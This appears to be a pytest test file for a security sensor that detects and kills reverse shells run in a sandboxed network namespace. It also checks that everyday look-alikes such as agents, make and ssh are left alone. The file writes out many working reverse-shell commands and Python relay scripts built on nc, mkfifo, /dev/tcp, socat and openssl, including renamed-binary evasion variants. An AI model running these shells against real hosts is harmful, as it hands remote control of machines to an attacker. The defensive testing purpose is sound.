"""Programs that a connection steers through their standard streams, live: wired in many ways and under any name;
beside them what looks alike every day.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from sensor_helpers import Launch, alerts_of, json_lines, members, wait_for

from sensor.cli.staging import Sensor, Sshd, start_in
from sensor.config import shipped_rules_dir
from sensor.verdict import SEVERITY

pytestmark = pytest.mark.kernel

PROGRAMS = Path(__file__).parents[1] / "programs"
FAR, INSIDE = "198.51.100.7", "10.99.0.7"
"""Outside the site (RFC 5737) and inside it."""
SHELL, SHELL_TLS, BINARY, QUEUE, MODEL_TLS, MODEL_HTTP = range(4001, 4007)
NAMESPACE = f"ip link set lo up && ip addr add {FAR}/32 dev lo && ip addr add {INSIDE}/32 dev lo && exec sleep 1000"
FED, HIDDEN, UNKNOWN = (
    "Shell steered from outside through a pipe, pty or socket pair",
    "Shell beside a connection outside the site that hides what it says",
    "Shell beside a connection of unknown protocol",
)

PTY = """
import os, pty, socket, sys
far = socket.create_connection((sys.argv[1], int(sys.argv[2])))
for stream in range(3):
    os.dup2(far.fileno(), stream)
pty.spawn(sys.argv[3:])
"""
RELAY = """
import os, pty, select, socket, ssl, subprocess, sys
how, address, port, *command = sys.argv[1:]
far = socket.create_connection((address, int(port)))
if how.startswith("tls"):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    far = context.wrap_socket(far)
if how.startswith("binary"):
    far.sendall(bytes(range(128, 256)))
if how.endswith("pty"):
    pid, shell = pty.fork()
    if not pid:
        os.execvp(command[0], command)
    give, take = shell, shell
elif how.endswith("pair"):
    near, other = socket.socketpair()
    subprocess.Popen(command, stdin=other, stdout=other, stderr=other)
    give = take = near.fileno()
else:
    child = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    give, take = child.stdin.fileno(), child.stdout.fileno()
while True:
    ready = select.select([far, take], [], [])[0]
    if far in ready:
        os.write(give, far.recv(4096))
    if take in ready:
        far.sendall(os.read(take, 4096))
"""
AGENT = """
import os, pty, select, socket, ssl, subprocess, sys, time
how, address, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
model = socket.create_connection((address, port))
request = b"POST /v1/messages HTTP/1.1\\r\\nHost: models.example.org\\r\\nContent-Length: 2\\r\\n\\r\\n{}"
if "tls" in how:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    model = context.wrap_socket(model, server_hostname="models.example.org")
if "queue" in how:
    request = b"*3\\r\\n$5\\r\\nBLPOP\\r\\n$4\\r\\njobs\\r\\n$1\\r\\n0\\r\\n"
if "pty" in how:
    pid, shell = pty.fork()
    if not pid:
        os.execvp("bash", ["bash", "--norc"])
    give, take = shell, shell
else:
    child = subprocess.Popen(["bash"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
    give, take = child.stdin.fileno(), child.stdout.fileno()
for _ in range(8):
    model.sendall(request)
    answer = model.recv(4096)
    os.write(give, answer.splitlines()[-1] + b"\\n")
    while select.select([take], [], [], 0.1)[0]:
        os.read(take, 4096)
    subprocess.run(["bash", "-c", "ls | cat; sleep 0.1"], stdin=subprocess.PIPE, stdout=subprocess.PIPE)
"""

BROWSER = """
import os, pty, select, socket, sys
with socket.create_server((sys.argv[1], 5000)) as server:
    visitor, _ = server.accept()
pid, shell = pty.fork()
if not pid:
    os.execvp("bash", ["bash", "--norc"])
while True:
    ready = select.select([visitor, shell], [], [])[0]
    if visitor in ready:
        told = visitor.recv(4096)
        if not told:
            break
        os.write(shell, told)
    if shell in ready:
        visitor.sendall(os.read(shell, 4096))
"""
VISITOR = """
import socket, sys, time
while True:
    try:
        server = socket.create_connection((sys.argv[1], 5000))
        break
    except ConnectionRefusedError:
        time.sleep(0.05)
for _ in range(5):
    server.sendall(b"id; ls\\n")
    time.sleep(0.4)
"""


class Site:
    """A network namespace in which a host outside, one inside the site and the workloads are."""

    def __init__(self, directory: Path) -> None:
        certificate = directory / "far.pem"
        make = ["openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes"]
        make += ["-subj", "/CN=far", "-days", "2", "-keyout", directory / "key.pem", "-out", directory / "cert.pem"]
        subprocess.run(make, check=True, capture_output=True)
        certificate.write_bytes((directory / "key.pem").read_bytes() + (directory / "cert.pem").read_bytes())
        self._anchor = subprocess.Popen(["unshare", "--net", "sh", "-c", NAMESPACE])
        self.enter = ["nsenter", f"--net=/proc/{self._anchor.pid}/ns/net"]
        wait_for(lambda: Path(f"/proc/{self._anchor.pid}/comm").read_text() == "sleep\n", "the namespace")
        self._far = [
            subprocess.Popen([*self.enter, sys.executable, PROGRAMS / "far_end.py", address, certificate])
            for address in (FAR, INSIDE)
        ]
        for address in (FAR, INSIDE):
            wait_for(lambda address=address: self._answers(address), "the far end listens")

    def _answers(self, address: str) -> bool:
        listening = subprocess.run([*self.enter, "ss", "-Hltn"], check=True, capture_output=True, text=True).stdout
        return all(f"{address}:{port} " in listening for port in range(SHELL, MODEL_HTTP + 1))

    def run(self, cgroup: Path, *command: str | Path) -> subprocess.Popen[bytes]:
        cgroup.mkdir(exist_ok=True)
        return start_in(cgroup, [*self.enter, *command])

    def close(self) -> None:
        for process in (*self._far, self._anchor):
            process.kill()
            process.wait()


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    found = Site(tmp_path)
    yield found
    found.close()


@pytest.fixture
def rules(tmp_path: Path) -> str:
    """Only those on process_stdio: others would stop some of this at its first exec."""
    directory = tmp_path / "rules"
    directory.mkdir()
    for path in Path(shipped_rules_dir(), "execution").glob("shell_fed_by_*.yml"):
        shutil.copy(path, directory)
    return f"--rules={directory}"


def alike(program: str, to: Path) -> str:
    """A copy under another name."""
    shutil.copy(Path(shutil.which(program) or program).resolve(), to)
    return str(to)


def reverse_shells(directory: Path) -> dict[str, list[str]]:
    """Each with no argument that tells what it is, where it can do without."""
    quiet = alike("dash", directory / "kworker")
    cat, net, run = (alike(program, directory / f"{program}-helper") for program in ("cat", "nc", "socat"))
    python = [sys.executable, "-c"]
    where = f"{FAR} {SHELL}"

    def script(text: str) -> list[str]:
        return ["bash", "-c", f"cd $(mktemp -d {directory}/XXXX); {text}"]

    return {
        "fifo": script(f"mkfifo f; nc {where} <f | sh >f 2>&1"),
        "fifo, inside": script(f"mkfifo f; nc {INSIDE} {SHELL} <f | sh -i >f 2>&1"),
        "fifo, renamed": script(f"mkfifo f; {net} {where} <f | {quiet} >f 2>&1"),
        "fifo, chain": script(f"mkfifo f; nc {where} <f | stdbuf -o0 tr a-z a-z | sh 2>&1 | {cat} >f"),
        "fifo, tls to a name": script(
            f"mkfifo f; openssl s_client -quiet -servername a.example.org -connect {FAR}:{SHELL_TLS} <f 2>&1 | sh >f"
        ),
        "coproc": script(
            f"exec 3<>/dev/tcp/{FAR}/{SHELL}; coproc sh; exec 4>&${{COPROC[1]}} 5<&${{COPROC[0]}};"
            f" {cat} <&3 >&4 & cat <&5 >&3"
        ),
        "coproc of nc": script(f"coproc nc {where}; sh <&${{COPROC[0]}} >&${{COPROC[1]}} 2>&1"),
        "while read": script(f"exec 5<>/dev/tcp/{FAR}/{SHELL}; cat <&5 | while read line; do $line 2>&1 >&5; done"),
        "python pty": [*python, PTY, FAR, str(SHELL), "sh"],
        "python pty, renamed": [*python, PTY, INSIDE, str(SHELL), quiet],
        "relay, pty": [*python, RELAY, "pty", FAR, str(SHELL), "bash", "--norc"],
        "relay, pipes": [*python, RELAY, "pipe", FAR, str(SHELL), "sh"],
        "relay, socket pair": [*python, RELAY, "pair", FAR, str(SHELL), quiet],
        "relay, to an interpreter": [*python, RELAY, "pty", INSIDE, str(SHELL), "python3", "-i"],
        "socat, pty": [run, f"TCP:{FAR}:{SHELL}", "EXEC:sh,pty,stderr,setsid"],
        "socat, socket pair": ["socat", f"TCP:{FAR}:{SHELL}", f"EXEC:{quiet}"],
        "socat, pipes": ["socat", f"TCP:{FAR}:{SHELL}", "EXEC:bash,pipes,stderr"],
    }


def test_reverse_shells_die_however_they_are_wired(
    launch: Launch, cgroup: Path, site: Site, rules: str, tmp_path: Path
) -> None:
    sensor = launch("--mode=enforce", rules, f"--events={tmp_path / 'events.jsonl'}")
    shells = reverse_shells(tmp_path)
    for number, command in enumerate(shells.values()):
        site.run(cgroup / str(number), *command)
    for number, name in enumerate(shells):
        work = cgroup / str(number)
        alert = wait_for(lambda work=work: of(sensor, work), f"an alert of {name}")
        assert alert["rule"]["name"] == FED and alert["response"]["outcome"] == "done", name
        assert not members(work), name
        assert alert["destination"]["port"] in (SHELL, SHELL_TLS) and alert["event"]["action"] == "stdio", name


def of(sensor: Sensor, work: Path) -> dict | None:
    return next(iter(alerts_of(sensor.alerts, work)), None)


def test_what_hides_is_told_and_lives(launch: Launch, cgroup: Path, site: Site, rules: str, tmp_path: Path) -> None:
    """TLS without a name, and bytes that are no text."""
    sensor = launch("--mode=enforce", rules, f"--events={tmp_path / 'events.jsonl'}")
    for how, port in (("tls", SHELL_TLS), ("binary", BINARY)):
        site.run(cgroup / how, sys.executable, "-c", RELAY, f"{how}-pty", FAR, str(port), "bash", "--norc")
    for how in ("tls", "binary"):
        alert = wait_for(lambda how=how: of(sensor, cgroup / how), how)
        assert (alert["rule"]["name"], alert["rule"]["level"]) == (HIDDEN, "high")
        assert members(cgroup / how)


def test_what_looks_alike_every_day(launch: Launch, cgroup: Path, site: Site, tmp_path: Path) -> None:
    events = tmp_path / "events.jsonl"
    sensor = launch("--mode=enforce", f"--events={events}")
    sshd = Sshd(tmp_path)
    python = [sys.executable, "-c", AGENT]
    (tmp_path / "Makefile").write_text("all: a b\na b:\n\tls | sh -c 'cat; sleep 1'\n")
    tty = "sh -c 'ls; sleep 1; ls'"
    daily = {
        "agent": [*python, "tls pipe", FAR, str(MODEL_TLS)],
        "agent, pty": [*python, "tls pty", FAR, str(MODEL_TLS)],
        "model inside": [*python, "http pty", INSIDE, str(MODEL_HTTP)],
        "agent in a pipeline": ["sh", "-c", 'sleep 9 | "$@" | cat', "sh", *python, "tls pipe", FAR, str(MODEL_TLS)],
        "queue inside": [*python, "queue pipe", INSIDE, str(QUEUE)],
        "terminal in a browser": [sys.executable, "-c", BROWSER, INSIDE],
        "its visitor": [sys.executable, "-c", VISITOR, INSIDE],
        "make": ["make", "-s", "-C", tmp_path, "-j2"],
        "script": ["script", "-qc", tty, "/dev/null"],
        "terminal with nc": ["script", "-qc", f"sh -c '(echo a; sleep 2) | nc -N {FAR} {BINARY}'", "/dev/null"],
        "download into a shell": ["sh", "-c", f"timeout 3 nc {FAR} {SHELL} </dev/null | sh"],
    }
    try:
        started = [site.run(cgroup / str(number), *command) for number, command in enumerate(daily.values())]
        work = cgroup / "ssh"
        work.mkdir()
        (work / "cgroup.procs").write_text(str(sshd._process.pid))
        started.append(start_in(work, [*sshd.client("-tt"), "ls; sleep 1; sh -c 'ls; sleep 1'"]))
        for process in started:
            process.wait(60)
    finally:
        sshd.stop()
    queue = cgroup / str(list(daily).index("queue inside"))
    wait_for(lambda: of(sensor, queue), "the shell beside a queue")
    assert sensor.stop() == 0
    bad = [
        alert["event"]["reason"] for alert in alerts_of(sensor.alerts) if alert["event"]["severity"] > SEVERITY["low"]
    ]
    assert not bad
    assert {alert["rule"]["name"] for alert in alerts_of(sensor.alerts, queue)} == {UNKNOWN}
    assert any(line["category"] == "process_stdio" for line in json_lines(events))
